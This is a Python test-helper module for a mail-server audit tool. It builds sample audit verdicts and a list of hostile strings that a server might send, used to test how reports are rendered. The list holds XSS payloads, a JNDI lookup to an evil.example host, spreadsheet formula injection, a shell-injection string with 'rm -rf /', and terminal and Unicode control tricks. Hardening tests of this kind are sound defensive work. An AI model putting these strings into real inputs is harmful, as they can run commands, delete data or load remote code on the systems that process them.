# SPDX-License-Identifier: GPL-3.0-or-later
# Copyright: (c) 2026, airtight.mail contributors
"""Verdicts to render in tests: of recorded observations, and with text of a hostile server."""

from __future__ import annotations

import json
import typing as t
from pathlib import Path

from ansible_collections.airtight.mail.plugins.module_utils import _model, _target
from ansible_collections.airtight.mail.plugins.plugin_utils._checks import evaluate, policy, waivers
from ansible_collections.airtight.mail.plugins.plugin_utils._checks.base import AuditContext

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures/checks"
NOW = evaluate.moment("2026-11-22T22:00:00+00:00")
WAIVER = {
    "check": "auth_hidden_before_tls",
    "justification": "a printer",
    "owner": "postmaster@example.org",
    "expiration_date": "2026-12-31",
}
RUN = {
    "tool": "airtight.mail",
    "version": "0.1.0",
    "written": "2026-11-22T22:00:00Z",
    "vantage": "outsider",
    "policy": "baseline",
}
CHECKS = (
    "relay_third_party",
    "auth_hidden_before_tls",
    "mx_takes_cleartext",
    "pop3_capabilities",
    "imap_login_disabled",
)
ACCEPTED = ["S", "250 2.1.5 Ok"]
PROOF = ["S", "250 2.1.0 Sender ok"]
RELAYED = [
    ["S", "220 mx1.example.org ESMTP"],
    ["C", "EHLO client.example.net"],
    ["S", "250-mx1.example.org"],
    ["S", "250 PIPELINING"],
    ["C", "MAIL FROM:<airtight-6f1e3cb9@example.com>"],
    ["S", "250 2.1.0 Ok"],
    ["C", "RCPT TO:<airtight-6f1e3cb9@example.com>"],
    ACCEPTED,
    ["C", "RSET"],
    ["S", "250 2.0.0 Ok"],
]
POP3_DIALOG = [["C", "USER nobody"], ["S", "+OK"], ["*", "gone " + "x" * 200]]


def recorded(check: str, status: str) -> list[dict[str, t.Any]]:
    """The observations of a fixture; none for a status that the check cannot have."""
    scenes = json.loads((FIXTURES / (check + ".json")).read_text(encoding="utf-8"))
    return list(scenes.get(status, {"observations": []})["observations"])


def verdicts(
    name: str, checks: t.Sequence[str], observations: t.Sequence[dict[str, t.Any]]
) -> list[dict[str, t.Any]]:
    """Verdicts of observations."""
    target = _target.target(
        {"name": name, "addresses": ["198.18.0.25"], "domains": ["example.org"]}
    )
    context = AuditContext(
        target, tuple(observations), policy.policy(), NOW, target.addresses, untrusted=True
    )
    waived = waivers.waivers([WAIVER], evaluate.IDS, NOW.date())
    found = evaluate.evaluate(context, evaluate.choose(checks), waived)
    return [
        {**item, "evidence": [_with_decisive_line(entry) for entry in item["evidence"]]}
        for item in found
    ]


def _with_decisive_line(entry: dict[str, t.Any]) -> dict[str, t.Any]:
    """Evidence with the decisive line of the conversations above; a recorded pass has one line."""
    if entry["transcript"] == RELAYED:
        return {**entry, "decisive": [RELAYED.index(ACCEPTED)]}
    if entry["transcript"] == POP3_DIALOG:
        return {**entry, "decisive": [POP3_DIALOG.index(["S", "+OK"])]}
    if entry["status"] == _model.PASS and entry["probe"]:
        return {**entry, "transcript": [PROOF], "decisive": [0]}
    return entry


BAD = [
    *({**seen, "transcript": RELAYED} for seen in recorded("relay_third_party", "fail")),
    *recorded("auth_hidden_before_tls", "fail"),
    *({**seen, "transcript": POP3_DIALOG} for seen in recorded("pop3_capabilities", "fail")),
]
GOOD = [*recorded("relay_third_party", "pass"), *recorded("mx_takes_cleartext", "pass")]


def mixed(name: str = "mx1.example.org") -> list[dict[str, t.Any]]:
    """Two failures, and one unknown, waived, passed and not applicable check of one host."""
    found = verdicts(name, CHECKS, BAD)
    aside = {
        **found[-1],
        "check": "users_not_disclosed",
        "status": _model.NOT_APPLICABLE,
        "evidence": [],
        "sentence": "Not offered.",
    }
    return [*found, aside]


def entry(**fields: t.Any) -> dict[str, t.Any]:
    """Evidence of a failure at an endpoint, with some fields of one's own."""
    return {
        "service": "smtp",
        "address": "192.0.2.25",
        "port": 25,
        "subject": "",
        "status": "fail",
        "sentence": "It fails.",
        "transcript": [],
        "decisive": [],
        "probe": "relay",
        "params": {},
        **fields,
    }


def replied(found: list[dict[str, t.Any]]) -> list[dict[str, t.Any]]:
    """The same verdicts, of a host that sent a reply."""
    return [
        {
            **item,
            "evidence": [
                {**entry, "transcript": [["S", "451 later"]]} for entry in item["evidence"]
            ],
        }
        for item in found
    ]


#: What a server might say to whoever reads the report.
NASTY = [
    "<script>alert(1)</script>",
    "</pre></style></script><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x=\'',
    "javascript:alert(1)",
    "]]><x/><!-- --><![CDATA[",
    "&lt;b&gt; &#60; &amp;amp;",
    "\x1b[2J\x1b]0;title\x07\x1b[31mred\x9b1m",
    "nul\x00bel\x07del\x7fnel\x85vt\x0bff\x0c",
    "\ufffe\uffff\ufdd0 non-characters",
    "\ud800 half of a pair \udfff",
    "right \u202egnorw\u202c to \u2066left\u2069 \u200bzero\ufeff",
    "line\r\nbreak\u2028and\u2029more\x0b",
    "::error::forged workflow command\n::set-output name=x::y",
    "# heading\n- list\n1. number\n> quote\n    code\n---\n===",
    "1) number",
    "- [x] task",
    "[link](javascript:alert(1)) ![image](https://evil.example/x.png) <https://evil.example>",
    "https://evil.example/ www.evil.example mailto:a@evil.example",
    "[ref]: https://evil.example",
    "@someone and @org/team and #1 and GH-1",
    "``` ````\n~~~ `code` **bold** __bold__ ~~gone~~ $x$ | cell |",
    "\\[escaped\\](https://evil.example) \\",
    "{0} {{1}} {run} %s %(x)s ${jndi:ldap://evil.example} {{ 7 * 7 }} {% raw %}",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1",
    '@SUM(A1)","=1',
    "\t=1+1",
    "\"quoted\",'single',;semi",
    'label="x"} 1\n# EOF\nfake_metric 1',
    "x" * 50_000,
    "\u0301" * 500 + "\U0001f4a9" * 50 + "\U000e0041",
    "$(touch /tmp/x); `id` && rm -rf / #'",
    "",
    "   ",
]


def hostile(words: str) -> list[dict[str, t.Any]]:
    """Verdicts of every status with the words wherever a server or a user could put them."""
    found = []
    for item in mixed():
        said = {"sentence": words, "transcript": [["C", words], ["S", words]], "decisive": [1]}
        evidence = [{**entry, **said} for entry in item["evidence"]]
        place = {"service": words, "address": words, "port": 25, "status": item["status"]}
        asked = {"probe": "relay", "params": {"server_name": words, words: words}}
        evidence += [{**place, **asked, **said, "subject": subject} for subject in ("", words)]
        more = {"target": "mx1 " + words, "sentence": words or "?", "evidence": evidence}
        found.append({**item, **more, "software": words})
        if "waived" in item:
            found[-1]["waived"] = {**item["waived"], "justification": words, "owner": words}
        if "references" in item:
            references = [*item["references"], words, "https://evil.example/" + words]
            found[-1].update(references=references, fix={**item["fix"], "any": words})
    return found
